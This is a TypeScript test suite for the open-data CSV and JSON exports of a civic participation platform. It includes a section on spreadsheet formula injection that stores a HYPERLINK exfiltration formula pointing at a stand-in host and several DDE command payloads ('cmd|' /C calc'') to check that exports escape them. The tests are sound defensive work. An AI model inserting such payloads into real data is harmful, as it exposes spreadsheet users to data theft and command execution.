import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { DemoIds } from '@infitah/demo-data';
import { GATEWAY_CREDENTIAL_HEADER } from '@infitah/contract';
import { startTestPlatform, type TestPlatform } from './support/test-platform';

/** Open data: ten datasets of published records, as CSV and JSON, listed at /open-data/. */
let platform: TestPlatform;

beforeAll(async () => {
  platform = await startTestPlatform();
  // the demo data has no review and no attendance count: one of each, published, so that every dataset has rows
  await platform.subgraphs.evaluation.ownerDataSource.query(
    `INSERT INTO evaluation.review (collectivity_id, commitment_id, verified_completion, comment, published) VALUES ($1, $2, 'LIMITED', 'Revue du réseau', true)`,
    [DemoIds.tamazgana, DemoIds.commitments.tamazganaCouncilMinutes],
  );
  await platform.subgraphs.participation.ownerDataSource.query(
    `INSERT INTO participation.attendance (collectivity_id, event_id, category, gender, count) VALUES ($1, $2, 'COUNCIL_MEMBER', 'FEMALE', 4)`,
    [DemoIds.tamazgana, DemoIds.events.tamazganaWorkshop],
  );
}, 120_000);
afterAll(() => platform.close());

const DATASETS = [
  'collectivities',
  'events',
  'attendance',
  'proposals',
  'action-programs',
  'commitments',
  'milestones',
  'indicators',
  'measurements',
  'reviews',
];

async function download(file: string) {
  const response = await fetch(`${platform.gatewayUrl}/open-data/${file}`);
  return { response, text: await response.text() };
}

const json = async (name: string) => JSON.parse((await download(`${name}.json`)).text) as Array<Record<string, unknown>>;

describe('GET /open-data/', () => {
  it('lists the ten datasets with their columns, row counts, last update and download addresses', async () => {
    const response = await fetch(`${platform.gatewayUrl}/open-data/`);
    expect(response.status).toBe(200);
    const body = (await response.json()) as { datasets: Array<{ name: string; rowCount: number; lastUpdated: string | null; columns: unknown[]; downloads: Record<string, string> }> };
    expect(body.datasets.map((dataset) => dataset.name).sort()).toEqual([...DATASETS].sort());
    for (const dataset of body.datasets) {
      expect(dataset.rowCount).toBe((await json(dataset.name)).length);
      expect(dataset.rowCount).toBeGreaterThan(0);
      expect(new Date(dataset.lastUpdated!).getTime()).not.toBeNaN();
      expect(dataset.columns.length).toBeGreaterThan(3);
      expect(dataset.downloads).toEqual({
        csv: `${platform.gatewayUrl}/open-data/${dataset.name}.csv`,
        json: `${platform.gatewayUrl}/open-data/${dataset.name}.json`,
      });
    }
  });
});

describe.each(DATASETS)('%s', (name) => {
  it('downloads as UTF-8 CSV with a header row naming the listed columns, the same rows as the JSON', async () => {
    const listing = (await (await fetch(`${platform.gatewayUrl}/open-data/`)).json()) as { datasets: Array<{ name: string; columns: Array<{ name: string }> }> };
    const columns = listing.datasets.find((dataset) => dataset.name === name)!.columns.map((column) => column.name);
    const { response, text } = await download(`${name}.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [header, ...rows] = parse(text) as string[][];
    expect(header).toEqual(columns);
    const records = await json(name);
    expect(rows).toHaveLength(records.length);
    expect(rows.map((row) => row[0]).sort()).toEqual(records.map((record) => String(record[columns[0]])).sort());
  });
});

describe('what open data holds', () => {
  it('keeps Arabic and French names intact', async () => {
    const { text } = await download('collectivities.csv');
    const tamazgana = (parse(text, { columns: true }) as Array<Record<string, string>>).find((row) => row.id === DemoIds.tamazgana)!;
    expect(tamazgana).toMatchObject({ name_ar: 'جماعة تمزكانة', name_fr: 'Commune de Tamazgana', kind: 'COMMUNE', member: 'true' });
  });

  it('holds published records only: an unpublished event appears once published', async () => {
    const id = randomUUID();
    await platform.subgraphs.participation.ownerDataSource.query(
      `INSERT INTO participation.event (collectivity_id, id, kind, title_fr, starts_at) VALUES ($1, $2, 'CO_CREATION_WORKSHOP', 'Atelier en préparation', now())`,
      [DemoIds.tamazgana, id],
    );
    expect((await json('events')).some((event) => event.id === id)).toBe(false);
    await platform.subgraphs.participation.ownerDataSource.query('UPDATE participation.event SET published = true WHERE id = $1', [id]);
    expect((await json('events')).find((event) => event.id === id)).toMatchObject({ title_fr: 'Atelier en préparation', collectivity_id: DemoIds.tamazgana });
  });

  it("carries no personal data: a citizen's contact and a focal point's name stay out", async () => {
    const id = randomUUID();
    await platform.subgraphs.participation.ownerDataSource.query(
      `INSERT INTO participation.proposal (collectivity_id, id, title, principle, source, citizen_submitted, consent_to_publish, contact, published)
       VALUES ($1, $2, 'Publier les procès-verbaux', 'TRANSPARENCY', 'ONLINE', true, true, 'citoyen@example.org', true)`,
      [DemoIds.tamazgana, id],
    );
    const [profile] = await platform.subgraphs.territory.ownerDataSource.query(
      `INSERT INTO territory.collectivity_profile (collectivity_id, focal_point_name) VALUES ($1, 'Nom Du Point Focal')
       ON CONFLICT (collectivity_id) DO UPDATE SET focal_point_name = excluded.focal_point_name RETURNING focal_point_name`,
      [DemoIds.tamazgana],
    );
    expect(profile.focal_point_name).toBe('Nom Du Point Focal');
    const proposals = await json('proposals');
    expect(proposals.find((proposal) => proposal.id === id)).toMatchObject({ title: 'Publier les procès-verbaux' });
    for (const name of DATASETS) {
      for (const format of ['csv', 'json']) {
        const { text } = await download(`${name}.${format}`);
        expect(text).not.toMatch(/citoyen@example\.org|Nom Du Point Focal|@infitah\.test|password/);
      }
    }
    expect(Object.keys(proposals[0])).not.toContain('contact');
  });

  it('gives commitments their completion and milestone-weighted progress, as the graph does', async () => {
    const response = await platform.graphql('{ commitments(first: 100) { nodes { id completion progress } } }');
    const graph = new Map(response.data.commitments.nodes.map((node: { id: string; completion: string; progress: number }) => [node.id, node]));
    const rows = await json('commitments');
    expect(rows.length).toBe(graph.size);
    for (const row of rows) {
      expect(graph.get(row.id as string)).toEqual({ id: row.id, completion: row.completion, progress: row.progress });
    }
  });

  it('answers 404 for an unknown dataset or format', async () => {
    expect((await download('accounts.csv')).response.status).toBe(404);
    expect((await download('events.xml')).response.status).toBe(404);
  });

  it('is served by the subgraphs to the gateway only', async () => {
    const url = platform.subgraphs.evaluation.url.replace(/\/graphql$/, '/open-data/commitments.csv');
    expect((await fetch(url)).status).toBe(403);
    const withCredential = await fetch(url, { headers: { [GATEWAY_CREDENTIAL_HEADER]: 'x'.repeat(40) } });
    expect(withCredential.status).toBe(403);
  });
});

describe('spreadsheet formulas in open data', () => {
  /** What a spreadsheet would run: each dangerous first character of a cell (=, +, -, @, tab, carriage return). */
  const FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];
  /** Per dataset: the id of a published row written with formulas, and the text of each of its cells. */
  const written: Record<string, Array<{ id: string; cells: Record<string, string> }>> = {};

  beforeAll(async () => {
    const { territory, participation, evaluation } = platform.subgraphs;
    written.proposals = [];
    for (const title of FORMULAS) {
      const id = randomUUID();
      await participation.ownerDataSource.query(
        `INSERT INTO participation.proposal (collectivity_id, id, title, body, principle, source, citizen_submitted, consent_to_publish, published)
         VALUES ($1, $2, $3, $4, 'TRANSPARENCY', 'ONLINE', true, true, true)`,
        [DemoIds.tamazgana, id, title, title],
      );
      written.proposals.push({ id, cells: { title, body: title } });
    }
    const event = randomUUID();
    await participation.ownerDataSource.query(
      `INSERT INTO participation.event (collectivity_id, id, kind, title_ar, title_fr, venue, starts_at, published)
       VALUES ($1, $2, 'PUBLIC_CONSULTATION', $3, $4, $5, now(), true)`,
      [DemoIds.tamazgana, event, FORMULAS[1], FORMULAS[0], FORMULAS[3]],
    );
    written.events = [{ id: event, cells: { title_ar: FORMULAS[1], title_fr: FORMULAS[0], venue: FORMULAS[3] } }];
    const collectivity = randomUUID();
    await territory.ownerDataSource.query(`INSERT INTO territory.collectivity (id, kind, name_ar, name_fr) VALUES ($1, 'COMMUNE', $2, $3)`, [
      collectivity,
      FORMULAS[3],
      FORMULAS[2],
    ]);
    written.collectivities = [{ id: collectivity, cells: { name_ar: FORMULAS[3], name_fr: FORMULAS[2] } }];
    const program = randomUUID();
    await evaluation.ownerDataSource.query(
      `INSERT INTO evaluation.action_program (collectivity_id, id, title_ar, title_fr, published) VALUES ($1, $2, $3, $4, true)`,
      [DemoIds.tamazgana, program, FORMULAS[4], FORMULAS[1]],
    );
    written['action-programs'] = [{ id: program, cells: { title_ar: FORMULAS[4], title_fr: FORMULAS[1] } }];
    const commitment = randomUUID();
    await evaluation.ownerDataSource.query(
      `INSERT INTO evaluation.commitment (collectivity_id, id, program_id, title_ar, title_fr, lead_unit, principles, published)
       VALUES ($1, $2, $3, $4, $5, $6, '{TRANSPARENCY}', true)`,
      [DemoIds.tamazgana, commitment, program, FORMULAS[5], FORMULAS[0], FORMULAS[2]],
    );
    written.commitments = [{ id: commitment, cells: { title_ar: FORMULAS[5], title_fr: FORMULAS[0], lead_unit: FORMULAS[2] } }];
    const [{ id: milestone }] = await evaluation.ownerDataSource.query(
      `INSERT INTO evaluation.milestone (collectivity_id, commitment_id, position, title, deliverable, evidence) VALUES ($1, $2, 0, $3, $4, $5) RETURNING id`,
      [DemoIds.tamazgana, commitment, FORMULAS[0], FORMULAS[3], FORMULAS[4]],
    );
    written.milestones = [{ id: milestone, cells: { title: FORMULAS[0], deliverable: FORMULAS[3], evidence: FORMULAS[4] } }];
    const [{ id: indicator }] = await evaluation.ownerDataSource.query(
      `INSERT INTO evaluation.indicator (collectivity_id, commitment_id, title, unit, baseline, target, direction) VALUES ($1, $2, $3, $4, 0, 10, 'INCREASE') RETURNING id`,
      [DemoIds.tamazgana, commitment, FORMULAS[1], FORMULAS[5]],
    );
    written.indicators = [{ id: indicator, cells: { title: FORMULAS[1], unit: FORMULAS[5] } }];
    const [{ id: measurement }] = await evaluation.ownerDataSource.query(
      `INSERT INTO evaluation.measurement (collectivity_id, indicator_id, measured_on, value, note) VALUES ($1, $2, '2026-01-01', -3, $3) RETURNING id`,
      [DemoIds.tamazgana, indicator, FORMULAS[2]],
    );
    written.measurements = [{ id: measurement, cells: { note: FORMULAS[2] } }];
    const [{ id: review }] = await evaluation.ownerDataSource.query(
      `INSERT INTO evaluation.review (collectivity_id, commitment_id, verified_completion, comment, published) VALUES ($1, $2, 'LIMITED', $3, true) RETURNING id`,
      [DemoIds.tamazgana, commitment, FORMULAS[3]],
    );
    written.reviews = [{ id: review, cells: { comment: FORMULAS[3] } }];
  });

  it('leaves a negative number a number: only text is escaped', async () => {
    const csv = parse((await download('measurements.csv')).text, { columns: true }) as Array<Record<string, string>>;
    expect(csv.find((row) => row.id === written.measurements[0].id)).toMatchObject({ value: '-3' });
  });

  // attendance holds no free text: only codes and counts
  it.each(DATASETS.filter((name) => name !== 'attendance'))('%s: a CSV cell that would start a formula starts with an apostrophe, the JSON keeps the text as written', async (name) => {
    const csv = parse((await download(`${name}.csv`)).text, { columns: true }) as Array<Record<string, string>>;
    const records = await json(name);
    expect(written[name].length).toBeGreaterThan(0);
    for (const { id, cells } of written[name]) {
      const csvRow = csv.find((row) => row.id === id)!;
      const jsonRow = records.find((record) => record.id === id)!;
      for (const [column, text] of Object.entries(cells)) {
        expect(csvRow[column]).toBe(`'${text}`);
        expect(jsonRow[column]).toBe(text);
      }
    }
  });
});
